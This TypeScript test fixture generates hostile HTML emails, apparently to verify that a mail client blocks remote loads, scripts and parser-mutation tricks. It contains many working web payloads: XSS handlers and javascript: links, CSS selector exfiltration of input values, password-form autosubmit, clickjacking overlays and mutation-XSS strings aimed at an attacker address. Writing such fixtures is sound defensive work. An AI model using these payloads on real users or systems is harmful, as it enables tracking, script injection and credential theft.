/** Ways in which a mail can try to load, run, send, navigate or take over. `at` is the attacker's address. */

/** What scripts do when they run: everything that must not happen to the window around the mail. */
const payload = (name: string): string =>
  `top.document.title='taken';parent.postMessage('taken','*');alert('${name}');new Image().src='/${name}'`;

type Vectors = Readonly<Record<string, (at: string) => string>>;

const svg = (inside: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${inside}</svg>`;

/** Pictures of every kind: over https, and when the user asks for them, these may load. */
const PICTURES: Vectors = {
  img: (at) => `<img src="${at}/img">`,
  imgSrcset: (at) => `<img srcset="${at}/srcset 1x, ${at}/srcset2 2x">`,
  imgCommaSrcset: (at) => `<img srcset="data:,x ${at}/c 1x, ,${at}/srcset-comma 2x">`,
  imgTabs: (at) => `<img src="  ht\ntp${at.slice(4)}/tabs">`,
  imgEntity: (at) => `<img src="${at.replace('/', '&sol;').replace(':', '&colon;')}/entity">`,
  imgBackslash: (at) => `<img src="${at.replaceAll('/', '\\')}\\backslash">`,
  imgCase: (at) => `<IMG SRC=${at.toUpperCase()}/CASE>`,
  imgTypo: (at) => `<image src="${at}/image-element">`,
  imgLazy: (at) => `<img loading="eager" fetchpriority="high" decoding="sync" src="${at}/eager">`,
  picture: (at) => `<picture><source srcset="${at}/picture" media="all"><img src="data:,"></picture>`,
  inputImage: (at) => `<input type="image" src="${at}/input-image">`,
  videoPoster: (at) => `<video poster="${at}/poster"></video>`,
  tableBackground: (at) =>
    `<table background="${at}/table"><tr><td background="${at}/td">.</td></tr></table>`,
  cssBackground: (at) => `<div style="background:url(${at}/css)">.</div>`,
  cssQuoted: (at) => `<div style='background-image:url("${at}/css-quoted")'>.</div>`,
  cssEscape: (at) => `<div style="background:\\75 r\\6C(${at}/css-escape)">.</div>`,
  cssComment: (at) => `<div style="background:/*;*/url(/**/${at}/css-comment)">.</div>`,
  cssUnclosed: (at) => `<div style="background:url('${at}/css-unclosed">.</div>`,
  cssNewline: (at) => `<div style="background:u\\\nrl(${at}/css-newline)">.</div>`,
  cssImageSet: (at) => `<div style="background:image-set('${at}/image-set' 1x)">.</div>`,
  cssWebkitImageSet: (at) =>
    `<div style="background:-webkit-image-set(url(${at}/webkit-image-set) 1x)">.</div>`,
  cssCrossFade: (at) =>
    `<div style="background:-webkit-cross-fade(url(${at}/fade),url(${at}/fade2),50%)">.</div>`,
  cssVariable: (at) => `<div style="--x:url(${at}/variable);background:var(--x)">.</div>`,
  cssContent: (at) => `<style>.a::before{content:url(${at}/content)}</style><p class="a">a</p>`,
  cssCursor: (at) => `<style>.b{cursor:url(${at}/cursor),auto}</style><p class="b">b</p>`,
  cssList: (at) => `<style>.c{list-style:url(${at}/list-style)}</style><ul><li class="c">c</ul>`,
  cssMask: (at) =>
    `<style>.d{mask-image:url(${at}/mask);border-image:url(${at}/border) 1}</style><p class="d">d</p>`,
  cssFilter: (at) =>
    `<style>.e{filter:url(${at}/filter#f);clip-path:url(${at}/clip#f)}</style><p class="e">e</p>`,
  cssShape: (at) => `<style>.f{float:left;shape-outside:url(${at}/shape)}</style><p class="f">f</p>`,
  cssExfiltration: (at) =>
    `<style>input[value^="s"]{background:url(${at}/starts-with-s)}p:has(b){background:url(${at}/has)}</style><input value="secret"><p><b>x</b></p>`,
  cssVisited: (at) =>
    `<style>a:visited{background:url(${at}/visited)}a:link{background:url(${at}/link)}</style><a href="#">v</a>`,
  cssTarget: (at) => `<style>:target{background:url(${at}/target)}:root{background:url(${at}/root)}</style>`,
  cssMedia: (at) =>
    `<style>@media (min-width:1px){html{background:url(${at}/media)}}@supports (color:red){body{background:url(${at}/supports)}}</style>`,
  cssNested: (at) =>
    `<style>body{&{background:url(${at}/nested)}}@layer z{p{background:url(${at}/layer)}}</style>`,
  cssAnimation: (at) =>
    `<style>@keyframes k{from{background:url(${at}/keyframes)}}.g{animation:k 1s infinite}</style><p class="g">g</p>`,
  cssCondition: (at) =>
    `<style>@container (min-width:0){p{background:url(${at}/container)}}@property --p{syntax:"<url>";inherits:true;initial-value:url(${at}/property)}</style>`,
  svgImage: (at) => svg(`<image href="${at}/svg-image" width="9" height="9"/>`),
  svgXlink: (at) => svg(`<image xlink:href="${at}/svg-xlink" width="9" height="9"/>`),
  svgFill: (at) => svg(`<rect width="9" height="9" fill="url(${at}/fill#a)" mask="url(${at}/svg-mask#a)"/>`),
  vml: (at) =>
    `<!--[if gte vml 1]><v:image src="${at}/vml"/><![endif]--><v:rect><v:fill src="${at}/vml2"/></v:rect>`,
  outlookUnhidden: (at) => `<!--[if !mso]><!--><img src="${at}/unhidden"><!--<![endif]-->`,
  noscriptImage: (at) => `<noscript><img src="${at}/noscript"></noscript>`,
  ampImage: (at) =>
    `<amp-img src="${at}/amp-img" width="9" height="9"></amp-img><amp-anim src="${at}/amp-anim"></amp-anim>`,
};

/** Loads that never may happen, asked for or not. */
const LOADS: Vectors = {
  cssImport: (at) => `<style>@import url(${at}/import);@im\\port "${at}/import-escaped";</style>`,
  cssImportLayer: (at) => `<style>@import "${at}/import-layer" layer(a) supports(color:red) screen;</style>`,
  cssFont: (at) => `<style>@font-face{font-family:q;src:url(${at}/font)}*{font-family:q}</style>`,
  cssFontLocal: (at) =>
    `<style>@font-face{font-family:r;src:local(x),url(${at}/font2) format("woff2")}p{font-family:r}</style>`,
  cssNamespace: (at) => `<style>@charset "x";@namespace url(${at}/namespace);</style>`,
  cssSrcFunction: (at) => `<style>p{background:src("${at}/src-function")}</style>`,
  linkStyle: (at) => `<link rel="stylesheet" href="${at}/link-style">`,
  linkAlternate: (at) => `<link rel="alternate stylesheet" title="x" href="${at}/link-alternate">`,
  linkIcon: (at) => `<link rel="icon" href="${at}/icon"><link rel="apple-touch-icon" href="${at}/touch">`,
  linkPreload: (at) => `<link rel="preload" as="image" href="${at}/preload" imagesrcset="${at}/imagesrcset">`,
  linkModule: (at) => `<link rel="modulepreload" href="${at}/modulepreload">`,
  linkPrefetch: (at) =>
    `<link rel="prefetch" href="${at}/prefetch"><link rel="prerender" href="${at}/prerender">`,
  linkConnect: (at) => `<link rel="preconnect" href="${at}"><link rel="dns-prefetch" href="${at}">`,
  linkManifest: (at) => `<link rel="manifest" href="${at}/manifest">`,
  htmlManifest: (at) => `<html manifest="${at}/appcache">`,
  iframe: (at) => `<iframe src="${at}/iframe"></iframe>`,
  iframeSrcdoc: (at) =>
    `<iframe srcdoc="<img src='${at}/srcdoc'><script>${payload('srcdoc')}</script>"></iframe>`,
  iframeScript: (at) => `<iframe src="javascript:fetch('${at}/iframe-script')"></iframe>`,
  frameset: (at) => `<frameset><frame src="${at}/frame"></frameset>`,
  fencedframe: (at) => `<fencedframe src="${at}/fenced"></fencedframe><portal src="${at}/portal"></portal>`,
  object: (at) =>
    `<object data="${at}/object" type="text/html"><param name="movie" value="${at}/param"></object>`,
  embed: (at) => `<embed src="${at}/embed">`,
  applet: (at) => `<applet codebase="${at}/" code="applet" archive="${at}/archive"></applet>`,
  video: (at) => `<video src="${at}/video" autoplay muted></video>`,
  videoSource: (at) => `<video autoplay muted><source src="${at}/video-source"></video>`,
  audio: (at) => `<audio src="${at}/audio" autoplay preload="auto"></audio><bgsound src="${at}/bgsound">`,
  track: (at) => `<video><track default kind="subtitles" src="${at}/track"></video>`,
  script: (at) => `<script src="${at}/script"></script><script type="module">import '${at}/module'</script>`,
  scriptInline: (at) => `<script>fetch('${at}/inline');${payload('inline')}</script>`,
  scriptSvg: (at) => svg(`<script href="${at}/svg-script">${payload('svg-script')}</script>`),
  scriptRules: (at) =>
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at}/rules"]}]}</script>`,
  svgUse: (at) => svg(`<use href="${at}/use#a"/><use xlink:href="data:image/svg+xml,x#a"/>`),
  svgFilter: (at) => svg(`<filter id="fi"><feImage href="${at}/feimage"/></filter><rect filter="url(#fi)"/>`),
  svgForeign: (at) => svg(`<foreignObject><iframe src="${at}/foreign"></iframe></foreignObject>`),
  svgAnimate: (at) =>
    svg(
      `<a><animate attributeName="href" values="javascript:${payload('animate')}"/><set attributeName="href" to="${at}/set"/>x</a>`,
    ),
  svgStyle: (at) => svg(`<style>@import "${at}/svg-style";</style>`),
  mathml: (at) =>
    `<math><maction actiontype="statusline" xlink:href="${at}/math">x</maction><mglyph src="${at}/mglyph"/></math>`,
  base: (at) => `<base href="${at}/base/"><img src="relative"><a href="relative">r</a>`,
  refresh: (at) => `<meta http-equiv="refresh" content="0;url=${at}/refresh">`,
  refreshCase: (at) => `<META HTTP-EQUIV=" Refresh" CONTENT="0; URL='${at}/refresh-case'">`,
  metaPolicy: (at) =>
    `<meta http-equiv="Content-Security-Policy" content="report-uri ${at}/report"><meta name="referrer" content="unsafe-url">`,
  metaCookie: () =>
    `<meta http-equiv="Set-Cookie" content="taken=1"><meta http-equiv="origin-trial" content="x">`,
  form: (at) =>
    `<form action="${at}/form" method="post"><input name="password" autofocus onfocus="form.submit()"><button formaction="${at}/formaction">Go</button></form>`,
  isindex: (at) =>
    `<isindex action="${at}/isindex" type="image" src="${at}/isindex-image"><keygen autofocus>`,
  ping: (at) => `<a href="${at}/href" ping="${at}/ping" attributionsrc="${at}/attribution">link</a>`,
  ampComponents: (at) =>
    `<amp-list src="${at}/amp-list"></amp-list><amp-pixel src="${at}/amp-pixel"></amp-pixel><amp-iframe src="${at}/amp-iframe"></amp-iframe><form action-xhr="${at}/xhr"></form>`,
  template: (at) =>
    `<template shadowrootmode="open"><link rel="stylesheet" href="${at}/shadow"><iframe src="${at}/shadow2"></iframe></template>`,
  xhtml: (at) => `<?xml-stylesheet href="${at}/xml-style"?><![CDATA[<iframe src="${at}/cdata">]]>`,
};

/** Code in places where only text belongs. */
const CODE: Vectors = {
  onerror: () => `<img src="x" onerror="${payload('onerror')}">`,
  onload: () => `<body onload="${payload('onload')}" onpageshow="${payload('pageshow')}">`,
  ontoggle: () => `<details open ontoggle="${payload('toggle')}">x</details>`,
  slashes: () => `<img/src=x/onerror=${payload('slashes').replaceAll("'", '&#39;')}>`,
  animation: () =>
    `<style>@keyframes x{}</style><p style="animation:x" onanimationstart="${payload('animation')}">`,
  scriptLink: () =>
    `<a href="java&#10;script&colon;${payload('link')}">l</a><a href="&#1;javascript:${payload('link2')}">m</a>`,
  dataLink: () => `<a href="data:text/html,<script>${payload('data')}</script>">d</a>`,
  openerLink: (at) =>
    `<a href="${at}/opener" target="_top" rel="opener">o</a><a target="mailproof" href="${at}/named">n</a>`,
  expression: () =>
    `<p style="width:expression(${payload('expression')});behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</p>`,
  clobber: () =>
    `<form id="document" name="body"><input name="parentNode"><input id="attributes"><img name="getElementById"></form>`,
  overlay: (at) =>
    `<a href="${at}/overlay" style="position:fixed;inset:0;z-index:2147483647;opacity:.01">Sign in</a>`,
  huge: () =>
    `<div style="position:absolute;left:-99999px;width:99999999px;height:99999999px;font-size:99999px;animation:spin .01s infinite">x</div>`,
  dialog: () =>
    `<dialog open>Your session ended</dialog><div popover="manual" id="pop">x</div><button popovertarget="pop">p</button>`,
  bidi: () => '<p>\u202e\u2066evil\u0000\u0007\u001b[31m\u2028\ufeff</p>',
};

/** Each of these swallows or changes what comes after it, so each is a mail of its own. Some turn into markup when read twice. */
const SWALLOWING: Vectors = {
  mutationTitle: (at) => `<svg><title><style><img title="</style><iframe src=${at}/mxss1>"></title></svg>`,
  mutationMath: (at) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;iframe src=${at}/mxss2&gt;">`,
  mutationForm: (at) =>
    `<form><math><mtext></form><form><mglyph><style></math><iframe src=${at}/mxss3></iframe>`,
  mutationNoscript: (at) => `<noscript><p title="</noscript><iframe src=${at}/mxss4></iframe>">x</noscript>`,
  mutationXmp: (at) => `<svg><xmp><p id="</xmp><iframe src=${at}/mxss5></iframe>"></xmp></svg>`,
  mutationSelect: (at) =>
    `<select><template><style><!--</style><a rel="--></style></template></select><iframe src=${at}/mxss6>">`,
  mutationTable: (at) => `<table><a href="#"><tr><iframe src="${at}/foster"></iframe><a>x</table></a>`,
  mutationNested: () => `${'<b><i><u><p>'.repeat(300)}deep`,
  nul: () => `<img src=x o\u0000nerror="${payload('nul')}"><scr\u0000ipt>${payload('nul2')}</script>`,
  deep: () => `${'<div>'.repeat(10_000)}deep${'</div>'.repeat(10_000)}`,
  plaintext: (at) => `<iframe src="${at}/before"></iframe><plaintext><img src="${at}/plaintext">`,
  xmp: (at) => `<xmp><img src="${at}/xmp"></xmp><iframe src="${at}/after-xmp"></iframe>`,
  comment: (at) =>
    `<!--><iframe src="${at}/comment1"></iframe><!-- --!><iframe src="${at}/comment2"></iframe><!-- never closed <img src="${at}/comment3">`,
  conditional: (at) =>
    `<!--[if mso]><iframe src="${at}/mso"><![endif]--><![if !mso]><iframe src="${at}/downlevel"></iframe><![endif]><!--[if`,
  title: (at) => `<title>x<iframe src="${at}/title"></iframe></title><textarea><iframe src="${at}/textarea">`,
  style: (at) => `<style>/*</style><iframe src="${at}/style-end"></iframe><style>*/ never closed`,
  attribute: (at) => `<p title='x><iframe src="${at}/attribute"></iframe>`,
  frameset: (at) =>
    `<html><frameset onload="${payload('frameset')}"><frame src="${at}/frameset1"><noframes><iframe src="${at}/frameset2">`,
  doctype: (at) => `<!DOCTYPE html SYSTEM "${at}/dtd" [<!ENTITY x SYSTEM "${at}/entity">]>&x;`,
  utf7: (at) => `<meta charset="utf-7">+ADw-iframe src+AD0AIg-${at}/utf7+ACIAPg-`,
  select: (at) => `<select><option><iframe src="${at}/select"></iframe><svg><iframe src="${at}/select2">`,
};

export const PICTURE_COUNT = Object.keys(PICTURES).length;

export const VECTOR_COUNT = [PICTURES, LOADS, CODE, SWALLOWING].reduce(
  (sum, vectors) => sum + Object.keys(vectors).length,
  0,
);

/** Words that end each mail, so that a test knows when it is shown whole. */
export const LAST_WORDS = 'The mail ends here';

const write = (vectors: Vectors, addresses: readonly string[]): readonly string[] =>
  addresses.flatMap((at) => Object.values(vectors).map((vector) => vector(at)));

/** One mail with all the vectors that can stand beside each other, for each of the attacker's addresses. */
/** A mail of these vectors, with the words that show that all of it is there. */
export const mailOfVectors = (vectors: readonly string[]): string =>
  `<!doctype html><html><head><title>Hostile</title></head><body><p>${LAST_WORDS}</p>${vectors.join('\n')}</body></html>`;

export const vectorsAt = (addresses: readonly string[]): readonly string[] =>
  [PICTURES, LOADS, CODE].flatMap((vectors) => write(vectors, addresses));

export const hostileMail = (...addresses: readonly string[]): string => mailOfVectors(vectorsAt(addresses));

/** The mails whose vector swallows the rest, by its name. */
export function swallowingMails(...addresses: readonly string[]): readonly (readonly [string, string])[] {
  return Object.entries(SWALLOWING).map(([name, vector]) => [
    name,
    `<p>${LAST_WORDS}</p>${addresses.map((at) => vector(at)).join('\n')}`,
  ]);
}
